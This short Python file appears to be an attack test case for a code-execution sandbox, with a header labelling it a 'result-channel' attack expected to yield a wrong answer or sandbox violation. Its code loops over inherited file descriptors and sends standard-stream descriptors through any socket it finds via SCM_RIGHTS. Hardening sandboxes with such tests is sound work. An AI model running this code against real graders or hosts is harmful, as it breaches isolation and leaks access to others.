# /// attack
# category = "result-channel"
# kind = "stdio"
# success = "infra"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Sends descriptors and credentials over any inherited socket to whoever reads it."
# ///

import os
import socket
import struct

for descriptor in range(1024):
    try:
        channel = socket.socket(fileno=os.dup(descriptor))
        channel.setblocking(False)
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))
        for _ in range(50):
            channel.sendmsg([b"R"], [rights])
        channel.shutdown(socket.SHUT_RDWR)
    except OSError:
        continue
print("done")
